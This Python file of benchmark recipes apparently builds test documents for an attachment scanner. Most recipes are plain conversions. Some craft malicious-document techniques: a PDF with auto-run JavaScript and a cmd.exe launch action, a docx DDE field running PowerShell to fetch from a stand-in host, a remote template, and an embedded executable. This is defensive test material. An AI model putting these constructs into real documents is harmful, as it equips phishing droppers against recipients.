"""Recipes for PDF and Office documents."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from bench import real_programs as programs
from bench.real_recipes import Made, recipe, sent

_PASSWORD = "Haru-2026"
_PAGE = """<!DOCTYPE html><html lang="en"><meta charset="utf-8"><title>The bill</title><body>
<h1>Bill of November</h1><p>請求書をご確認ください。 <a href="https://page.example/pay?id=7">Pay here</a></p>"""
_CALC = """<html><body><table><tr><td>Bill</td><td><a href="https://page.example/pay?id=7">Pay here</a></td></tr>
<tr><td>1200</td><td>1300</td></tr></table></body></html>"""
_SLIDES = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"
 office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.presentation"><office:body>
<office:presentation><draw:page draw:name="one"><draw:frame svg:x="2cm" svg:y="2cm" svg:width="20cm" svg:height="3cm">
<draw:text-box><text:p>Bill <text:a xlink:type="simple" xlink:href="https://page.example/pay?id=7">Pay here</text:a>
</text:p></draw:text-box></draw:frame></draw:page></office:presentation></office:body></office:document>"""
_HOST = "page.example"


def _page(folder: Path, html: str = _PAGE, name: str = "bill.html") -> Path:
    (folder / name).write_text(html, "utf-8")
    return folder / name


def _written(folder: Path, kind: str, export: str = "") -> tuple[bytes, str]:
    """Our page as a document of LibreOffice Writer."""
    source = folder / "converted" / "bill.odt"
    if not source.exists():
        programs.office(_page(folder), "odt", infilter="HTML (StarWriter)")
    if kind == "odt":
        return source.read_bytes(), programs.version("soffice").replace("soffice", "LibreOffice")
    return programs.office(source.rename(folder / "bill.odt"), kind, export=export)


def _document(folder: Path, kind: str, export: str = "") -> Made:
    content, by = _written(folder, kind, export)
    return sent(folder, by, (f"bill.{kind}", content))


@recipe("PDF printed by a browser", kinds="pdf", hosts=_HOST, text="請求書", harmless=True)
def _chromium(folder: Path) -> Made:
    content, by = programs.print_page(_page(folder))
    return sent(folder, by, ("bill.pdf", content))


@recipe("PDF exported", kinds="pdf", hosts=_HOST, text="Bill of November", harmless=True)
def _exported(folder: Path) -> Made:
    return _document(folder, "pdf")


@recipe("PDF, password in the mail", kinds="pdf", hosts=_HOST, password=_PASSWORD, findings="locked_archive")
def _pdf_locked(folder: Path) -> Made:
    (folder / "bill.pdf").write_bytes(_written(folder, "pdf")[0])
    words = [_PASSWORD, _PASSWORD, "256"]
    programs.run("qpdf", "--encrypt", *words, "--", "bill.pdf", "locked.pdf", folder=folder)
    content = (folder / "locked.pdf").read_bytes()
    return sent(folder, programs.version("qpdf"), ("bill.pdf", content), text=f"パスワード：{_PASSWORD}\n")


@recipe("PDF, password not in the mail", kinds="pdf", findings="not_read", unread=True)
def _pdf_shut(folder: Path) -> Made:
    (folder / "bill.pdf").write_bytes(_written(folder, "pdf")[0])
    programs.run("qpdf", "--encrypt", "x", "y", "256", "--", "bill.pdf", "locked.pdf", folder=folder)
    return sent(folder, programs.version("qpdf"), ("bill.pdf", (folder / "locked.pdf").read_bytes()))


@recipe("PDF with object streams, linearised", kinds="pdf", hosts=_HOST, harmless=True)
def _pdf_packed(folder: Path) -> Made:
    (folder / "bill.pdf").write_bytes(_written(folder, "pdf")[0])
    asked = ["--object-streams=generate", "--linearize", "--recompress-flate", "bill.pdf", "packed.pdf"]
    programs.run("qpdf", *asked, folder=folder)
    return sent(folder, programs.version("qpdf"), ("bill.pdf", (folder / "packed.pdf").read_bytes()))


_POSTSCRIPT = """/Helvetica findfont 20 scalefont setfont 72 700 moveto (Open the document) show
[ /Rect [0 0 612 792] /Border [0 0 0] /Action << /Subtype /URI /URI (https://page.example/go) >> /Subtype /Link /ANN pdfmark
[ /_objdef {js} /type /dict /OBJ pdfmark
[ {js} << /S /JavaScript /JS (app.launchURL\\("https://script.example/x"\\);) >> /PUT pdfmark
[ {Catalog} << /OpenAction {js} >> /PUT pdfmark
[ /Rect [72 600 200 620] /Action << /Subtype /Launch /File (cmd.exe) >> /Subtype /Link /ANN pdfmark
showpage
"""


@recipe(
    "PDF with script, launch and a page-wide link",
    kinds="pdf",
    hosts=_HOST,
    traits="javascript open_action launch page_link",
    findings="javascript launch page_link",
)
def _pdf_active(folder: Path) -> Made:
    (folder / "a.ps").write_text(_POSTSCRIPT)
    asked = ["-q", "-dBATCH", "-dNOPAUSE", "-sDEVICE=pdfwrite", "-o", "a.pdf", "a.ps"]
    programs.run("gs", *asked, folder=folder)
    return sent(folder, programs.version("gs"), ("a.pdf", (folder / "a.pdf").read_bytes()))


@recipe("PDF with a file in it", kinds="pdf exe", traits="embedded_file", findings="executable")
def _pdf_holds(folder: Path) -> Made:
    (folder / "bill.pdf").write_bytes(_written(folder, "pdf")[0])
    (folder / "invoice.exe").write_bytes(programs.windows_program())
    programs.run("qpdf", "bill.pdf", "--add-attachment", "invoice.exe", "--", "holds.pdf", folder=folder)
    return sent(folder, programs.version("qpdf"), ("bill.pdf", (folder / "holds.pdf").read_bytes()))


@recipe("docx", kinds="docx", hosts=_HOST, text="請求書", harmless=True)
def _docx(folder: Path) -> Made:
    return _document(folder, "docx", "MS Word 2007 XML")


@recipe("doc", kinds="doc", hosts=_HOST, text="請求書", harmless=True)
def _doc(folder: Path) -> Made:
    return _document(folder, "doc", "MS Word 97")


@recipe("rtf", kinds="rtf", hosts=_HOST, text="請求書", harmless=True)
def _rtf(folder: Path) -> Made:
    return _document(folder, "rtf", "Rich Text Format")


@recipe("odt", kinds="odt", hosts=_HOST, text="請求書", harmless=True)
def _odt(folder: Path) -> Made:
    return _document(folder, "odt")


@recipe("fodt (flat XML)", kinds="fodt", hosts=_HOST, text="請求書", harmless=True)
def _fodt(folder: Path) -> Made:
    return _document(folder, "fodt")


def _sheet(folder: Path, kind: str, export: str = "") -> Made:
    source = _page(folder, _CALC)
    content, by = programs.office(source, kind, export=export, infilter="HTML (StarCalc)")
    return sent(folder, by, (f"bill.{kind}", content))


@recipe("xlsx", kinds="xlsx", hosts=_HOST, text="Pay here", harmless=True)
def _xlsx(folder: Path) -> Made:
    return _sheet(folder, "xlsx", "Calc MS Excel 2007 XML")


@recipe("xls", kinds="xls", hosts=_HOST, text="Pay here", harmless=True)
def _xls(folder: Path) -> Made:
    return _sheet(folder, "xls", "MS Excel 97")


@recipe("ods", kinds="ods", hosts=_HOST, text="Pay here", harmless=True)
def _ods(folder: Path) -> Made:
    return _sheet(folder, "ods", "calc8")


def _slides(folder: Path, kind: str, export: str = "") -> Made:
    (folder / "bill.fodp").write_text(_SLIDES, "utf-8")
    content, by = programs.office(folder / "bill.fodp", kind, export=export)
    return sent(folder, by, (f"bill.{kind}", content))


@recipe("pptx", kinds="pptx", hosts=_HOST, text="Pay here", harmless=True)
def _pptx(folder: Path) -> Made:
    return _slides(folder, "pptx", "Impress MS PowerPoint 2007 XML")


@recipe("ppt", kinds="ppt", hosts=_HOST, text="Pay here", harmless=True)
def _ppt(folder: Path) -> Made:
    return _slides(folder, "ppt", "MS PowerPoint 97")


@recipe("odp", kinds="odp", hosts=_HOST, text="Pay here", harmless=True)
def _odp(folder: Path) -> Made:
    return _slides(folder, "odp", "impress8")


def _edited(content: bytes, edits: dict[str, tuple[str, str]]) -> bytes:
    """A package with a piece of some parts exchanged."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = old.read(name)
            before, after = edits.get(name, ("", ""))
            if before.encode() not in part:
                raise programs.Missing(f"{name} holds no {before}")
            part = part.replace(before.encode(), after.encode(), 1)
            new.writestr(name, part)
    return out.getvalue()


@recipe("docx with a remote template", kinds="docx", traits="remote_template", findings="remote_template")
def _template(folder: Path) -> Made:
    content, by = _written(folder, "docx", "MS Word 2007 XML")
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relation = f'<Relationship Id="rT" Type="{kind}" Target="https://template.example/a.dotm" TargetMode="External"/>'
    edits = {
        "word/_rels/document.xml.rels": ("</Relationships>", f"{relation}</Relationships>"),
        "word/settings.xml": ("</w:settings>", '<w:attachedTemplate r:id="rT"/></w:settings>'),
    }
    return sent(folder, f"{by}, edited", ("bill.docx", _edited(content, edits)))


@recipe("docx with a DDE field", kinds="docx", traits="dde", findings="dde")
def _dde(folder: Path) -> Made:
    content, by = _written(folder, "docx", "MS Word 2007 XML")
    code = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k powershell -c iwr https://dde.example/a"'
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        f'{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return sent(
        folder, f"{by}, edited", ("bill.docx", _edited(content, {"word/document.xml": ("<w:p>", f"{field}<w:p>")}))
    )


_OFFICE_SAMPLES = {
    "docx with a DDE field, by Word": ("msodde/dde-test.docx", "docx", "dde", "dde", ""),
    "doc with a DDE field, by Word": ("msodde/dde-test-from-office2016.doc", "doc", "dde", "dde", ""),
    "xlsx with DDE, by Excel": ("msodde/dde-test.xlsx", "xlsx", "dde", "dde", ""),
    "xlsb with DDE, by Excel": ("msodde/dde-test.xlsb", "xlsb", "dde", "dde", ""),
    "ppt with macros, by PowerPoint": ("olevba/sample_with_vba.ppt", "ppt", "macro", "macro", ""),
    "docm with macros, by Word": ("oleform/oleform-PR314.docm", "docm", "macro", "macro", ""),
    "xls with Excel 4 macros": ("excel4-macros/excel4_sample_macro.xls", "xls", "xlm_macro", "macro", ""),
    "xlsm with Excel 4 macros": ("excel4-macros/excel4_sample_macro.xlsm", "xlsm", "xlm_macro", "macro", ""),
    "xlsb with Excel 4 macros": ("excel4-macros/excel4_sample_macro.xlsb", "xlsb", "xlm_macro", "macro", ""),
    "slk with Excel 4 macros": ("excel4-macros/excel4_sample_macro.slk", "slk", "macro_autorun", "macro", ""),
    "doc with a program in it, by Word": ("oleobj/sample_with_calc_embedded.doc", "doc exe", "embedded_object", "executable", ""),
    "doc with a shortcut in it, by Word": ("oleobj/sample_with_lnk_file.doc", "doc lnk", "embedded_object", "shortcut", ""),
    "ppt with a shortcut in it": ("oleobj/sample_with_lnk_file.ppt", "ppt lnk", "embedded_object", "shortcut", ""),
    "docx with an object in it, by Word": ("oleobj/embedded-simple-2007.docx", "docx", "embedded_object", "", ""),
    "xlsb with an object in it, by Excel": ("oleobj/embedded-simple-2007.xlsb", "xlsb", "embedded_object", "", ""),
    "docx that loads another, by Word": ("external_link/sample_with_external_link_to_doc.docx", "docx", "external_link", "remote_template", ""),
    "xlsx, locked, by Excel": ("encrypted/encrypted.xlsx", "ole", "", "not_read", "locked"),
    "doc, locked, by Word": ("encrypted/encrypted.doc", "doc", "", "not_read", "locked"),
    "xlsm, macros, Excel's standard password": ("encrypted/autostart-encrypt-standardpassword.xlsm", "xlsm", "macro", "macro", ""),
    "xls, macros, Excel's standard password": ("encrypted/autostart-encrypt-standardpassword.xls", "xls", "macro", "macro", ""),
    "Word 2003 XML, clean": ("ooxml/harmless-clean-2003.xml", "", "", "", ""),
}  # fmt: skip


def _enter(name: str, ending: str, kinds: str, traits: str, findings: str, locked: str) -> None:
    # Office stores its themes as ZIP archives within its own files.
    without = "polyglot named_otherwise"

    @recipe(name, kinds=kinds, traits=traits, findings=findings, unread=bool(locked), without=without)
    def make(folder: Path) -> Made:
        content, by = programs.sample("oletools", ending, folder.parent)
        return sent(folder, by, (ending.rpartition("/")[2], content))


for _name, _row in _OFFICE_SAMPLES.items():
    _enter(_name, *_row)

_XLSXWRITER = """
import xlsxwriter
book = xlsxwriter.Workbook("book.xlsx", {"in_memory": True})
sheet = book.add_worksheet("Bill")
sheet.write_url("A1", "https://page.example/pay?id=7", string="Pay here")
sheet.write_formula("A2", '=HYPERLINK("https://formula.example/x", "or here")')
book.close()
"""
_XLSM = """
import sys, xlsxwriter
book = xlsxwriter.Workbook("book.xlsm")
book.add_worksheet("Bill").insert_button("B3", {"macro": "say_hello", "caption": "Open"})
book.add_vba_project(sys.argv[1])
book.close()
"""
_DOCX = """
import sys, docx
book = docx.Document()
book.add_paragraph("Scan the code to keep your account")
book.add_picture(sys.argv[1])
book.save("scan.docx")
"""


@recipe("xlsx with links", kinds="xlsx", hosts="page.example formula.example", harmless=True)
def _xlsxwriter(folder: Path) -> Made:
    by = programs.python("xlsxwriter", _XLSXWRITER, folder=folder)
    return sent(folder, by, ("book.xlsx", (folder / "book.xlsx").read_bytes()))


@recipe("xlsm with macros", kinds="xlsm", traits="macro", findings="macro")
def _xlsm(folder: Path) -> Made:
    project, by = programs.sample("xlsxwriter", "/vbaProject.bin", folder.parent)
    (folder / "vbaProject.bin").write_bytes(project)
    by = f"{programs.python('xlsxwriter', _XLSM, 'vbaProject.bin', folder=folder)}, {by}"
    return sent(folder, by, ("book.xlsm", (folder / "book.xlsm").read_bytes()))


@recipe("docx with a QR code", kinds="docx png", hosts="qr.example", findings="qr_code")
def _docx_qr(folder: Path) -> Made:
    programs.run("qrencode", "-s", "6", "-o", "code.png", "https://qr.example/login", folder=folder)
    by = programs.python("python-docx", _DOCX, "code.png", folder=folder)
    return sent(folder, by, ("scan.docx", (folder / "scan.docx").read_bytes()))


@recipe("PDF with a QR code", kinds="pdf", hosts="qr.example", findings="qr_code")
def _pdf_qr(folder: Path) -> Made:
    programs.run("qrencode", "-s", "6", "-o", "code.png", "https://qr.example/login", folder=folder)
    content, by = programs.print_page(_page(folder, '<html><body><p>Scan this:</p><img src="code.png">'))
    return sent(folder, f"{by}, {programs.version('qrencode')}", ("scan.pdf", content))


@recipe("PDF with a QR code as drawing", kinds="pdf", hosts="qr.example", findings="qr_code")
def _pdf_vector(folder: Path) -> Made:
    programs.run("qrencode", "-t", "SVG", "-s", "6", "-o", "code.svg", "https://qr.example/login", folder=folder)
    content, by = programs.print_page(_page(folder, '<html><body><p>Scan this:</p><img src="code.svg">'))
    return sent(folder, f"{by}, {programs.version('qrencode')}", ("scan.pdf", content))


@recipe("OneNote section", kinds="one", findings="executable")
def _onenote(folder: Path) -> Made:
    content, by = programs.sample("one-extract", ".one", folder.parent)
    return sent(folder, by, ("notes.one", content))
